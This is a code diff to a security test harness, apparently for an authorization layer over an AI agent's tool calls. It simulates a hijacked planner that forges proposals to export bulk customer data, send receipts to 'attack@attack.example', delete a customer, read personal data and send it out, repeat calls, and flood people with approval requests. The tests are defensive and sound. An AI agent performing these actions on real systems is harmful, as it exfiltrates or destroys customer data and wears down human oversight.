@@ -1,7 +1,8 @@
+import type { Event, EventType } from '@countersign/contracts';
 import { humanPrincipal } from '@countersign/identity';
 import type { JsonObject, StepId, Tenant } from '@countersign/kernel';
 import type { ForgedEvents } from './forged-events.js';
-import { ROWS, type OwnRun } from './own-run.js';
+import { CUSTOMER, ROWS, type OwnRun } from './own-run.js';
 import type { Place, Plain, Stage } from './stage.js';
 import { byAccessRule, through, type Attack, type Verdict } from './verdict.js';
 
@@ -48,14 +49,12 @@ export const hijackedInRun = (stage: Stage, own: OwnRun): readonly Attack[] => {
   const { forged, run } = own;
   const on = (local: string) => ({ topic: stage.topic(local), partition: forged.partition });
   const call = (step: string, tool: string, args: JsonObject) => forged.action({ run, step: step as StepId, tool, args });
-  const answered = async (record: Plain): Promise<Verdict> => {
+  const said = async (record: Plain): Promise<Said> => {
     await own.waiting();
     const place = await stage.hijack('planner', on('proposals'), record);
-    const event = await stage.answer(on('decisions'), place);
-    const asks = event?.type === 'countersign.approval.required';
-    if (!asks && event?.type !== 'countersign.action.denied') return through(event ? `${event.type} ${event.id}` : `policy said nothing about proposals/${place.partition}/${place.offset}`);
-    return { refused: true, layer: asks ? 'policy, which asks a person' : 'policy', evidence: `event ${event.id} (${event.data.reasons.map(({ code }) => code).join(', ')})` };
+    return { place, event: await stage.answer(on('decisions'), place) };
   };
+  const answered = async (record: Plain): Promise<Verdict> => verdictOf(await said(record));
   const foreign = (step: string) => forged.proposal(call(step, 'crm.export', { rows: ROWS }), undefined, humanPrincipal('admin'));
   /** Policy goes through proposals in their order: when it has answered what came after, it has passed over what it never answers. */
   const passedOver = async (): Promise<Verdict> => {
@@ -66,6 +65,27 @@ export const hijackedInRun = (stage: Stage, own: OwnRun): readonly Attack[] => {
     if (event) return through(`${event.type} ${event.id}`);
     return after.refused ? { ...after, evidence: `nothing is decided twice; what came after it is ${after.evidence}` } : after;
   };
+  /** Lets the customer of the task be looked up, as any planner may, and waits until that has ended: a write is put off until then. */
+  const look = async (step: string): Promise<Said> => {
+    const answer = await said(forged.proposal(call(step, 'crm.customer.get', { customer_id: CUSTOMER })));
+    const { event } = answer;
+    if (event?.type === 'countersign.action.allowed') await stage.seen(on('decisions'), ({ type, data }) => type === 'countersign.budget.settled' && data.jti === event.data.jti);
+    return answer;
+  };
+  /** Without what was read the tenant's own books could be written to. */
+  const leaked = async (): Promise<Verdict> => {
+    await look('look');
+    const read = await stage.seen(on('decisions'), (event) => event.run === run && event.type === 'countersign.context.observed' && event.data.sensitive, 0);
+    return read ? answered(forged.proposal(call('leak', 'receipts.send', { charge_id: own.task, to: BOOKS }))) : through(`nobody knows: customer \`${CUSTOMER}\` could not be read, for which the examples have to run`);
+  };
+  /** Goes on for as long as policy answers alike, and what it says then is the verdict. */
+  const untilRefused = async (ask: (turn: number) => Promise<Said>, goesOn: EventType): Promise<Verdict> => {
+    for (let turn = 1; turn <= MOST_TURNS; turn += 1) {
+      const answer = await ask(turn);
+      if (answer.event?.type !== goesOn) return verdictOf(answer);
+    }
+    return through(`policy has answered alike ${MOST_TURNS} times`);
+  };
   const stolen = 'planner, whole, in an open run';
   return [
     { stolen, tries: 'act for somebody else', run: () => answered(foreign('foreign')) },
@@ -74,5 +94,26 @@ export const hijackedInRun = (stage: Stage, own: OwnRun): readonly Attack[] => {
     { stolen, tries: 'raise an amount above what anybody gets', run: () => answered(forged.proposal(call('bulk', 'crm.export', { rows: 999_999 }))) },
     { stolen, tries: 'raise an amount above what the task says', run: () => answered(forged.proposal(call('more', 'crm.export', { rows: ROWS + 1 }))) },
     { stolen, tries: 'send to a place that nobody named', run: () => answered(forged.proposal(call('place', 'receipts.send', { charge_id: 'ch_attack', to: 'attack@attack.example' }))) },
+    { stolen, tries: 'delete', run: () => answered(forged.proposal(call('delete', 'crm.customer.delete', { customer_id: own.task }))) },
+    { stolen, tries: 'read personal data, then send', run: leaked },
+    { stolen, tries: 'call the same again and again', run: () => untilRefused((turn) => look(`again-${turn}`), 'countersign.action.allowed') },
+    { stolen, tries: 'ask people for one thing after another', run: () => untilRefused((turn) => said(forged.proposal(call(`flood-${turn}`, 'crm.export', { rows: ROWS + turn }))), 'countersign.approval.required') },
   ];
+};
+
+/** A place of the tenant's directory, in the example configuration. */
+const BOOKS = 'books@acme.example';
+/** More than a run of the example has steps, and more calls than its contract takes for progress. */
+const MOST_TURNS = 12;
+
+/** What policy said to a proposal, if anything. */
+interface Said {
+  readonly place: Place;
+  readonly event: Event | undefined;
+}
+
+const verdictOf = ({ place, event }: Said): Verdict => {
+  const asks = event?.type === 'countersign.approval.required';
+  if (!asks && event?.type !== 'countersign.action.denied') return through(event ? `${event.type} ${event.id}` : `policy said nothing about proposals/${place.partition}/${place.offset}`);
+  return { refused: true, layer: asks ? 'policy, which asks a person' : 'policy', evidence: `event ${event.id} (${event.data.reasons.map(({ code }) => code).join(', ')})` };
 };
